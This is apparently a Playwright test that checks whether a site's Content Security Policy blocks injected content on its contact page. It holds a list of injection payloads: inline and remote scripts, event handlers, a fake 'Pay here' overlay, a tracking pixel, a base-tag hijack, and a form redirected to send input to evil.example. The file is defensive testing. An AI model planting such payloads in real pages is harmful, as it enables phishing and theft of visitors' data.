// Attacking visitors through the page itself. Every other spec fails on what the policy refuses of the site's own parts.
import type { Page } from '@playwright/test';
import { expect, test as base } from './fixtures.ts';

declare global {
  interface Window {
    reportViolation: (report: string) => void;
  }
}

/** What the policy of the page refused, in order: "img-src refuses https://…". */
const test = base.extend<{ reports: string[] }>({
  reports: [
    async ({ context }, use) => {
      const reports: string[] = [];
      await context.exposeBinding('reportViolation', (_, report: string) => void reports.push(report));
      await context.addInitScript(() => {
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sample }) => {
          window.reportViolation(`${effectiveDirective} refuses ${blockedURI} ${sample}`.trim());
        });
      });
      await use(reports);
    },
    { auto: true },
  ],
});

test.use({ expectedErrors: [/Content Security Policy/] });

const attacks: [what: string, directive: string, attack: (page: Page) => Promise<unknown>][] = [
  ['a script in the page', 'script-src-elem', insert('<script>window.attacked = true</script>')],
  [
    'a script of another site',
    'script-src-elem',
    insert('<script src="https://evil.example/a.js"></script>'),
  ],
  [
    'a handler in an attribute',
    'script-src-attr',
    insert('<img src="/icon.svg" onload="window.attacked = true">'),
  ],
  ['a style in an attribute', 'style-src-attr', insert('<p style="position: fixed; inset: 0">Pay here</p>')],
  [
    'a style sheet of another site',
    'style-src-elem',
    insert('<link rel="stylesheet" href="https://evil.example/a.css">'),
  ],
  ['a picture that tells another site', 'img-src', insert('<img src="https://evil.example/seen.gif">')],
  ['a frame of another site', 'frame-src', insert('<iframe src="https://evil.example/"></iframe>')],
  ['a plug-in', 'object-src', insert('<object data="/listings.json"></object>')],
  [
    'a script that tells another site',
    'connect-src',
    (page) => page.evaluate(() => fetch('https://evil.example/').catch(() => undefined)),
  ],
  ['another base for every link', 'base-uri', insert('<base href="https://evil.example/">')],
  [
    'a form that sends what is typed elsewhere',
    'form-action',
    (page) =>
      page.locator('form').evaluate((form: HTMLFormElement) => {
        form.action = 'https://evil.example/';
        form.submit();
      }),
  ],
];

test('what an attacker would put into a page is refused', async ({ page, reports, externalRequests }) => {
  await page.goto('/contact');
  for (const [what, directive, attack] of attacks) {
    reports.length = 0;
    await attack(page);
    await expect.poll(() => reports.join(), { message: what }).toMatch(new RegExp(`^${directive} refuses`));
  }
  expect(await page.evaluate(() => 'attacked' in window)).toBe(false);
  expect(externalRequests).toEqual([]);
});

/** Puts HTML at the end of the page, its scripts to be run as those of a fragment are; innerHTML would not run them. */
function insert(html: string): (page: Page) => Promise<unknown> {
  return (page) =>
    page.evaluate((text) => {
      document.body.append(document.createRange().createContextualFragment(text));
    }, html);
}
